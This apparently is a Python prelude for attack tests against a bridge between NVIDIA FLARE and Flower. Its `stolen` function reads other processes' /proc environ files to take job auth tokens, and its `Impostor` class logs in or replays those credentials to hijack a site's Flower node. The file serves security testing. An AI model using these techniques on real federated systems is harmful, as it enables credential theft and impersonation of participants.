"""Act under a FLARE identity from inside its container, where its kit is.

`hostile.act` pipes this to Python there, as the beginning of a program. The attack follows, and ends with
`tell`. It speaks to a job as a site does, with the bridge's own end of the link. Only the identity differs.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import datetime
import io
import json
import logging
import os
import pathlib
import sys
import time
import uuid
from typing import Any, NoReturn

from flwr.proto.fleet_pb2 import (
    ActivateNodeRequest,
    PullMessagesRequest,
    RegisterNodeFleetRequest,
    RegisterNodeFleetResponse,
)
from flwr.proto.node_pb2 import Node
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes, sign_message
from nvflare.apis.fl_constant import ReservedKey
from nvflare.apis.fl_context import FLContext
from nvflare.apis.fl_exception import FLCommunicationError
from nvflare.apis.job_launcher_spec import JobProcessEnv
from nvflare.apis.signal import Signal
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.fqcn import FQCN
from nvflare.fuel.f3.message import Message
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.fuel.utils.admin_name_utils import new_admin_client_name
from nvflare.private.defs import ClientType
from nvflare.private.fed.authenticator import Authenticator
from nvflare.private.fed.utils.fed_utils import fobs_initialize

from bridge.job.channel import NotAdmitted
from bridge.relay.calls import Call, JobOver, LinkFault, Request
from bridge.site.link import SiteLink

WORDS = sys.argv[1:]
"""The test's words to the attack."""

KIT = pathlib.Path("/kit/startup")
ANSWER_WITHIN = 20.0
"""Seconds for one answer."""
CONNECT_WITHIN, STAYS = 10.0, 0.5
"""Seconds to connect, and after which a connection counts as one that stays."""
LOGIN_WITHIN = 20.0
"""Seconds to log in."""

FLEET = "/v1/fleet/"

NO_CONNECTION = "no connection"
"""The result if the server, or a relay, does not let this kit connect."""


def tell(result: Any) -> NoReturn:
    """End the program with `result`, which the test gets."""
    print(json.dumps(result), flush=True)
    os._exit(0)  # FLARE's threads need not be waited for.


def stolen(job: str) -> dict[str, str]:
    """The credentials of this site's job process, as any process of the same user can read them."""
    names = {
        "token": JobProcessEnv.AUTH_TOKEN,
        "signature": JobProcessEnv.TOKEN_SIGNATURE,
        "ssid": JobProcessEnv.SSID,
    }
    for file in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            lines = file.read_bytes().decode(errors="replace").split("\0")
            command = file.with_name("cmdline").read_text()
        except OSError:
            continue
        values = dict(line.partition("=")[::2] for line in lines)
        if job in command and set(names.values()) <= values.keys():
            return {key: values[name] for key, name in names.items()}
    raise SystemExit(f"no process of job {job} has credentials")


class Impostor:
    """A cell in FLARE's network, with the kit of this container."""

    def __init__(
        self,
        credentials: dict[str, str] | None = None,
        kit: pathlib.Path = KIT,
        kind: str = "",
        host: str = "",
    ) -> None:
        """Connect, and log in unless `credentials` (token, signature, ssid) are given.

        If the server does not let the kit connect, or refuses the login, report that and end.

        Args:
            credentials: those of an earlier login, or stolen ones.
            kit: the kit with the certificate to use.
            kind: the kind to log in as (`ClientType`), if not the kit's.
            host: the server's host, if not the kit's.
        """
        logging.disable(logging.CRITICAL)
        fobs_initialize()
        self._loop = asyncio.new_event_loop()
        if (kit / "fed_admin.json").exists():
            admin = json.loads((kit / "fed_admin.json").read_text())["admin"]
            self.name, usual = admin["username"], ClientType.ADMIN
            project, identity, fqcn = admin["project_name"], admin["server_identity"], new_admin_client_name()
            url = f"{admin['scheme']}://{admin['host']}:{admin['port']}"
        else:
            client = json.loads((kit / "fed_client.json").read_text())
            (server,) = client["servers"]
            self.name, usual = client["client"]["fqsn"], ClientType.REGULAR
            project, identity = server["name"], server["identity"]
            # Below the site's own cell, which keeps its connection.
            fqcn = FQCN.join([self.name, uuid.uuid4().hex])
            url = f"{server['service']['scheme']}://{server['service']['target']}"
        if host:
            scheme, port = url.split("://")[0], url.rsplit(":", 1)[1]
            url = f"{scheme}://{host}:{port}"
        files = {"ca_cert": "rootCA.pem", "client_cert": "client.crt", "client_key": "client.key"}
        paths = {key: str(kit / name) for key, name in files.items()}
        self.cell = Cell(
            fqcn=fqcn,
            root_url=url,
            secure=True,
            credentials={**paths, "connection_security": "mtls"},
            create_internal_listener=False,
            auth_identity_map={FQCN.ROOT_SERVER: identity},
        )
        self.cell.start()
        self._connect()
        if credentials is None:
            authenticator = Authenticator(
                cell=self.cell,
                project_name=project,
                client_name=self.name,
                client_type=kind or usual,
                expected_sp_identity=identity,
                secure_mode=True,
                root_cert_file=paths["ca_cert"],
                private_key_file=paths["client_key"],
                cert_file=paths["client_cert"],
                msg_timeout=5.0,
                retry_interval=0.5,
                timeout=LOGIN_WITHIN,
            )
            context = FLContext()
            context.set_public_props({ReservedKey.IDENTITY_NAME: self.name})
            try:
                with contextlib.redirect_stderr(io.StringIO()):  # FLARE prints a traceback.
                    token, signature, ssid, _ = authenticator.authenticate(context, Signal())
            except FLCommunicationError as error:
                tell(f"refused: {error.__context__}")
            credentials = {"token": token, "signature": signature, "ssid": ssid}
        self.credentials = credentials
        set_add_auth_headers_filters(
            self.cell, self.name, credentials["token"], credentials["signature"], credentials["ssid"]
        )
        self._private, public = generate_key_pairs()
        self._public = public_key_to_bytes(public)
        self._links: dict[str, SiteLink] = {}

    def _connect(self) -> None:
        """Wait for a connection that stays: the server answers first, and then looks at who has connected."""
        deadline = time.monotonic() + CONNECT_WITHIN
        agents = self.cell.core_cell.agents
        while time.monotonic() < deadline:
            if FQCN.ROOT_SERVER in agents:
                time.sleep(STAYS)
                if FQCN.ROOT_SERVER in agents:
                    return
            time.sleep(0.05)
        tell(NO_CONNECTION)

    def request(self, target: str, channel: str, topic: str, payload: Any, **headers: Any) -> str:
        """Ask a cell with FLARE's own request, and return the return code of its reply."""
        message = Message(headers, payload)
        reply = self.cell.send_request(channel, topic, target, message, timeout=ANSWER_WITHIN)
        return str(reply.get_header(MessageHeaderKey.RETURN_CODE))

    def call(self, job: str, name: str, body: bytes = b"", path: str = "", **headers: str) -> Any:
        """Send a call of the Fleet API to a job, signed with a new Flower key, as its SuperNode would.

        Return its status and its body, or a word if there is no answer.
        """
        return self._loop.run_until_complete(self._call(job, path or FLEET + name, body, headers))

    async def _call(self, job: str, path: str, body: bytes, headers: dict[str, str]) -> Any:
        import flwr

        if job not in self._links:
            self._links[job] = SiteLink(self.cell, job, flwr.__version__, self._loop)
        timestamp = datetime.datetime.now(datetime.UTC).isoformat()
        signed = {
            "content-type": "application/protobuf",
            "flwr-public-key": base64.b64encode(self._public).decode(),
            "flwr-timestamp": timestamp,
            "flwr-signature": base64.b64encode(sign_message(self._private, timestamp.encode())).decode(),
        }
        request = Request(path, tuple({**signed, **headers}.items()), body)
        try:
            async with asyncio.timeout(ANSWER_WITHIN):
                # A later incarnation than any honest SuperNode's: it would replace the site's node.
                response = await self._links[job].send(Call(uuid.uuid4().hex, request, (), 1000))
        except NotAdmitted:
            return 403, b""
        except JobOver:
            return "over", b""
        except LinkFault as fault:
            return f"fault: {fault}", b""
        except TimeoutError:
            return "silence", b""
        return response.status, response.body

    def join(self, job: str) -> dict[str, Any]:
        """Try to take part in a job as a Flower node, and return the status of each call."""
        told: dict[str, Any] = {}
        register = RegisterNodeFleetRequest(public_key=self._public)
        told["register-node"], body = self.call(job, "register-node", register.SerializeToString())
        registered = told["register-node"] == 200
        node_id = RegisterNodeFleetResponse.FromString(body).node_id if registered else 1
        activate = ActivateNodeRequest(public_key=self._public, heartbeat_interval=30)
        told["activate-node"], _ = self.call(job, "activate-node", activate.SerializeToString())
        pull = PullMessagesRequest(node=Node(node_id=node_id))
        told["pull-messages"], _ = self.call(job, "pull-messages", pull.SerializeToString())
        return told
